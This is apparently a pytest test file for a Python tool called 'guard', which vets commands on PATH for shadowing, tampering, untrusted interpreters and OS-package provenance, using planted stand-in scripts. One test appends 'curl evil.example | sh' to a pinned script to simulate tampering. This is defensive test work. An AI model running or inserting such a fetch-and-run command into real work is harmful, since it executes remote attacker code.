"""Every reason code, each from a real situation on real files (and the real dpkg database)."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from guard._cli import main
from guard.decide import decide
from guard.model import Reason
from tests.conftest import GuardEnv
from tests.core import run_guard, script, seed_os_index, write_config

LS = "/usr/bin/ls"

needs_dpkg_ls = pytest.mark.skipif(
    not (os.path.isfile("/var/lib/dpkg/status") and os.path.isfile(LS)),
    reason="needs a Debian-family system with coreutils' /usr/bin/ls",
)


def trust(*args: str) -> None:
    assert main(["trust", *args]) == 0


@pytest.fixture
def ge(guard_env: GuardEnv) -> GuardEnv:
    seed_os_index(guard_env)
    return guard_env


@needs_dpkg_ls
def test_os_package_real_dpkg_file(ge: GuardEnv) -> None:
    v = decide("ls", "/usr/bin", "/")
    assert v.reason == Reason.OS_PACKAGE and v.allowed
    assert v.path == LS
    assert v.provenance is not None
    assert v.provenance.kind == "dpkg"
    assert v.provenance.package == "coreutils"
    assert v.provenance.digest_ok is True
    assert v.provenance.version


@needs_dpkg_ls
def test_shadowing_planted_in_earlier_path_dir(ge: GuardEnv) -> None:
    evil = ge.bindir("venv/bin")
    planted = script(evil, "ls", b"#!/bin/sh\ntouch /tmp/should-never-run\n")
    v = decide("ls", f"{evil}:/usr/bin", "/")
    assert v.reason == Reason.SHADOWING and not v.allowed
    assert v.path == str(planted)
    assert v.shadowed == LS
    assert str(planted) in v.message and LS in v.message
    assert v.trust_command() == f"guard trust {planted}"


@needs_dpkg_ls
def test_shadowing_via_cli_exit_and_both_paths(ge: GuardEnv, capsys) -> None:
    evil = ge.bindir("node_modules/.bin")
    planted = script(evil, "ls")
    r = run_guard(ge, "check", "ls", path=f"{evil}:/usr/bin")
    assert r.returncode == 1, r.stderr
    out = r.stdout.decode()
    assert "shadowing" in out and str(planted) in out and LS in out
    assert f"guard trust {planted}" in out


@needs_dpkg_ls
def test_untrusted_file_alone_is_untrusted_not_shadowing(ge: GuardEnv) -> None:
    d = ge.bindir("bin")
    f = script(d, "mytool-xyz")
    v = decide("mytool-xyz", f"{d}:/usr/bin", "/")
    assert v.reason == Reason.UNTRUSTED
    assert v.shadowed is None
    assert v.trust_command() == f"guard trust {f}"


def test_pinned_file_in_user_writable_dir(ge: GuardEnv, monkeypatch) -> None:
    d = ge.bindir("home/.local/bin")
    f = script(d, "aws")
    monkeypatch.setenv("PATH", f"{d}:/usr/bin")
    assert decide("aws").reason == Reason.UNTRUSTED
    trust("aws", "--note", "installed by hand")
    v = decide("aws")
    assert v.reason == Reason.PINNED and v.allowed
    assert v.path == str(f)
    assert v.sha256 is not None and len(v.sha256) == 64


def test_modified_after_edit(ge: GuardEnv, monkeypatch) -> None:
    d = ge.bindir("bin")
    f = script(d, "tool")
    monkeypatch.setenv("PATH", str(d))
    trust("tool")
    assert decide("tool").reason == Reason.PINNED
    with open(f, "ab") as fh:
        fh.write(b"curl evil.example | sh\n")
    v = decide("tool")
    assert v.reason == Reason.MODIFIED and not v.allowed
    assert v.culprit == str(f)
    assert "differs" in v.message


def test_modified_same_size_swap(ge: GuardEnv, monkeypatch) -> None:
    """A wrapper swapped in by rename (new inode, same size) is caught by content."""
    d = ge.bindir("bin")
    script(d, "tool", b"#!/bin/sh\necho AAAA\n")
    monkeypatch.setenv("PATH", str(d))
    trust("tool")
    tmp = script(d, ".tool.new", b"#!/bin/sh\necho BBBB\n")
    os.replace(tmp, d / "tool")
    assert decide("tool").reason == Reason.MODIFIED


@pytest.mark.parametrize("same_content", [True, False])
def test_modified_retargeted_symlink(ge: GuardEnv, monkeypatch, same_content: bool) -> None:
    """A pinned link that now points elsewhere is modified even if the new target's bytes
    are identical: the pin records the real path too."""
    real1 = script(ge.bindir("opt/v1"), "aws-real", b"#!/bin/sh\necho v1\n")
    body = b"#!/bin/sh\necho v1\n" if same_content else b"#!/bin/sh\necho evil\n"
    real2 = script(ge.bindir("opt/evil"), "aws-real", body)
    d = ge.bindir("bin")
    (d / "aws").symlink_to(real1)
    monkeypatch.setenv("PATH", str(d))
    trust("aws")
    assert decide("aws").reason == Reason.PINNED
    (d / "aws").unlink()
    (d / "aws").symlink_to(real2)
    v = decide("aws")
    assert v.reason == Reason.MODIFIED
    assert v.real == str(real2)
    assert str(real1) in v.message and str(real2) in v.message


def test_modified_when_pinned_file_deleted_but_link_dangles(ge: GuardEnv, monkeypatch) -> None:
    target = script(ge.bindir("opt"), "real-tool")
    d = ge.bindir("bin")
    (d / "tool").symlink_to(target)
    monkeypatch.setenv("PATH", str(d))
    trust("tool")
    target.unlink()
    # The shell's PATH search skips a dangling link: nothing runs.
    assert decide("tool").reason == Reason.NOT_FOUND
    # Named by path, the dangling link is reported, not run.
    v = decide(str(d / "tool"))
    assert v.reason == Reason.NOT_FOUND and "dangling" in v.message


@pytest.mark.parametrize(
    "shebang",
    [b"#!/usr/bin/env node\n", b"#!/usr/bin/env -S node --flag\n", b"#!/usr/bin/env -Snode -x\n"],
)
def test_interpreter_planted_on_path(ge: GuardEnv, monkeypatch, shebang: bytes) -> None:
    good = ge.bindir("bin")
    script(good, "cli.js", shebang + b"console.log(1)\n")
    monkeypatch.setenv("PATH", f"{good}:/usr/bin")
    trust("cli.js")
    evil = ge.bindir("evil")
    planted = script(evil, "node", b"#!/bin/sh\necho owned\n")
    v = decide("cli.js", f"{evil}:{good}:/usr/bin", "/")
    assert v.reason == Reason.INTERPRETER and not v.allowed
    assert v.culprit == str(planted)
    assert str(planted) in v.message
    assert str(planted) in v.interpreters
    assert "/usr/bin/env" in v.interpreters
    assert v.trust_command() == f"guard trust {planted}"


def test_interpreter_trusted_is_allowed(ge: GuardEnv, monkeypatch) -> None:
    """Control for the test above: the same pinned script with a pinned interpreter runs."""
    good = ge.bindir("bin")
    script(good, "cli.js", b"#!/usr/bin/env -S node --flag\n")
    node = script(ge.bindir("nodebin"), "node")
    path = f"{node.parent}:{good}:/usr/bin"
    monkeypatch.setenv("PATH", path)
    trust("cli.js", str(node))
    v = decide("cli.js", path, "/")
    assert v.reason == Reason.PINNED
    assert str(node) in v.interpreters


def test_interpreter_direct_untrusted_path(ge: GuardEnv, monkeypatch) -> None:
    """`#!/abs/interp` that is not trusted denies a pinned script."""
    interp = script(ge.bindir("evil"), "python9", b"#!/bin/sh\n")
    d = ge.bindir("bin")
    script(d, "tool", b"#!" + bytes(interp) + b" -u\nprint(1)\n")
    monkeypatch.setenv("PATH", str(d))
    trust("tool")
    v = decide("tool")
    assert v.reason == Reason.INTERPRETER and v.culprit == str(interp)


def test_nested_interpreter_chain(ge: GuardEnv, monkeypatch) -> None:
    """tool -> #!inner, inner -> #!/usr/bin/env outer: the second-level interpreter counts."""
    evil = ge.bindir("evil")
    outer = script(evil, "outer", b"#!/bin/sh\n")
    inner = script(ge.bindir("lib"), "inner", b"#!/usr/bin/env outer\n")
    d = ge.bindir("bin")
    script(d, "tool", b"#!" + bytes(inner) + b"\n")
    path = f"{evil}:{d}:/usr/bin"
    monkeypatch.setenv("PATH", path)
    trust("tool", str(inner))
    v = decide("tool", path, "/")
    assert v.reason == Reason.INTERPRETER
    assert v.culprit == str(outer)
    assert v.interpreters[0] == str(inner)


def test_untrusted_fresh_file(ge: GuardEnv) -> None:
    d = ge.bindir("bin")
    f = script(d, "fresh")
    v = decide("fresh", str(d), "/")
    assert v.reason == Reason.UNTRUSTED and not v.allowed
    assert v.path == str(f) and v.real == str(f)
    assert "fresh" in v.message


def test_not_found(ge: GuardEnv) -> None:
    d = ge.bindir("bin")
    v = decide("no-such-command-zz", f"{d}:/usr/bin", "/")
    assert v.reason == Reason.NOT_FOUND and not v.allowed
    assert v.trust_command() is None
    assert decide(str(d / "nope"), "", "/").reason == Reason.NOT_FOUND


@needs_dpkg_ls
def test_trust_os_packages_false_makes_ls_untrusted(ge: GuardEnv) -> None:
    assert decide("ls", "/usr/bin", "/").reason == Reason.OS_PACKAGE
    write_config(ge, "trust_os_packages: false\n")
    v = decide("ls", "/usr/bin", "/")
    assert v.reason == Reason.UNTRUSTED
    # Provenance is still reported, it just does not grant trust.
    assert v.provenance is not None and v.provenance.package == "coreutils"


@needs_dpkg_ls
def test_copy_of_dpkg_file_elsewhere_is_not_os_package(ge: GuardEnv) -> None:
    """Same bytes as /usr/bin/ls, but not at a path dpkg owns: not trusted."""
    d = ge.bindir("bin")
    shutil.copy2(LS, d / "ls")
    v = decide("ls", str(d), "/")
    assert v.reason == Reason.UNTRUSTED


def test_pin_by_real_path_via_other_link(ge: GuardEnv, monkeypatch) -> None:
    """A pin of the real file also covers another link to it (pin matched by real path)."""
    real = script(ge.bindir("opt"), "tool-1.2")
    a = ge.bindir("a")
    b = ge.bindir("b")
    (a / "tool").symlink_to(real)
    (b / "tool").symlink_to(real)
    monkeypatch.setenv("PATH", str(a))
    trust("tool")
    v = decide("tool", str(b), "/")
    assert v.reason == Reason.PINNED and v.path == str(b / "tool")


def test_unreadable_fifo_on_path(ge: GuardEnv) -> None:
    d = ge.bindir("bin")
    fifo = d / "fifo-cmd"
    os.mkfifo(fifo)
    fifo.chmod(0o755)
    v = decide("fifo-cmd", str(d), "/")
    assert v.reason == Reason.UNREADABLE and not v.allowed
    assert "not a regular file" in v.message


def test_shell_hash_table_entry_wins(ge: GuardEnv, monkeypatch) -> None:
    """`hashed` (the shell's command table) takes precedence over the PATH search."""
    good = ge.bindir("good")
    script(good, "tool")
    monkeypatch.setenv("PATH", str(good))
    trust("tool")
    other = script(ge.bindir("stale"), "tool", b"#!/bin/sh\necho other\n")
    assert decide("tool", str(good), "/").reason == Reason.PINNED
    v = decide("tool", str(good), "/", hashed=str(other))
    assert v.path == str(other) and v.reason == Reason.SHADOWING


def test_relative_path_word_resolves_from_cwd(ge: GuardEnv, monkeypatch, tmp_path: Path) -> None:
    f = script(tmp_path / "proj" / "scripts", "build")
    monkeypatch.chdir(tmp_path / "proj")
    v = decide("./scripts/build", "", str(tmp_path / "proj"))
    assert v.path is not None and os.path.normpath(v.path) == str(f)
    assert v.real == str(f) and v.reason == Reason.UNTRUSTED
    assert main(["trust", "./scripts/build"]) == 0
    assert decide("./scripts/build", "", str(tmp_path / "proj")).reason == Reason.PINNED
